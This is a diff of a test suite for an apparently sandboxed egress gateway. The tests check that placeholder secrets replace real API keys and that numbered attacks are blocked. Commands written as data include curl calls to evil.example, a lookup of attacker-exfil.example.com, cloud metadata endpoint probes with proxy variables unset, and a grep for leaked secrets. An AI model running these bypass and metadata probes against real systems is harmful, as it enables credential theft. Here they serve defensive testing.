@@ -91,7 +91,8 @@ void describe("egress gateway with real clients in real sandboxes", () => {
     assert.match(r.stdout, /^STRIPE_API_KEY=paddock-ph-[0-9a-f]{32}$/m);
     assert.match(r.stdout, /^SENTRY_DSN=https:\/\/paddock-ph-[0-9a-f]{32}@o1\.ingest\.sentry\.io\/42$/m);
     assert.match(r.stdout, /^DATABASE_URL=postgres:\/\/paddock-ph-[0-9a-f]+:paddock-ph-[0-9a-f]+@db\.internal:5432\/app$/m);
-    const grep = await sh(a, `grep -rl -e '${STRIPE}' -e '${GITHUB}' / --exclude-dir=proc --exclude-dir=sys 2>/dev/null; echo done`);
+    // Everywhere the sandbox can write or Paddock puts files (the rest is the read-only host OS).
+    const grep = await sh(a, `grep -rl -e '${STRIPE}' -e '${GITHUB}' -e '${SENTRY_KEY}' /etc /workspace /home /tmp /run /var/tmp /opt /usr/local 2>/dev/null; echo done`);
     assert.equal(grep.stdout, "done\n");
   });
 
@@ -159,6 +160,8 @@ void describe("egress gateway with real clients in real sandboxes", () => {
   void it("denied hosts, redirects and DNS for unknown names (attacks 11, 15)", async () => {
     const denied = await sh(a, "curl -sS -o /dev/null -w '%{http_code}' https://evil.example/ 2>&1; echo; curl -sS -o /dev/null -w '%{http_code}' http://evil.example/ ; echo");
     assert.match(denied.stdout, /403/);
+    const metadata = await sh(a, "curl -sS -o /dev/null -w '%{http_code}' http://169.254.169.254/latest/meta-data/; echo; env -u http_proxy -u HTTP_PROXY curl -sS -o /dev/null -w '%{http_code}' http://169.254.169.254/latest/meta-data/");
+    assert.equal(metadata.stdout, "403\n403");
     const redirect = await sh(a, "curl -sS -o /dev/null -w '%{http_code} %{redirect_url}' https://api.stripe.com/redirect");
     assert.equal(redirect.stdout, "302 https://evil.example/landing");
     const dns = await sh(a, "getent hosts attacker-exfil.example.com; echo rc=$?; getent hosts api.stripe.com");
@@ -169,11 +172,14 @@ void describe("egress gateway with real clients in real sandboxes", () => {
     const r = await sh(
       a,
       'env -u HTTPS_PROXY -u https_proxy curl -sS --resolve api.stripe.com:443:203.0.113.9 https://api.stripe.com/raw -H "Authorization: Bearer $STRIPE_API_KEY"; echo; ' +
-        "curl -sS -m 3 http://203.0.113.9:8080/ >/dev/null 2>&1; echo other=$?",
+        "env -u HTTP_PROXY -u http_proxy curl -sS -m 3 http://203.0.113.9:8080/ >/dev/null 2>&1; echo other=$?; " +
+        "curl -sS -o /dev/null -w 'proxied=%{http_code}' http://203.0.113.9:8080/",
     );
     assert.match(r.stdout, /"url":"\/raw"/);
     assert.equal(lastTo("api.stripe.com")?.headers.authorization, `Bearer ${STRIPE}`);
-    assert.match(r.stdout, /other=(7|28)/);
+    assert.match(r.stdout, /other=(7|28)\n/);
+    // Through the explicit proxy the same request is judged by policy, and refused.
+    assert.match(r.stdout, /proxied=403$/);
   });
 
   void it("the control plane, the host's services and the other sandbox are unreachable (attack 17)", async () => {
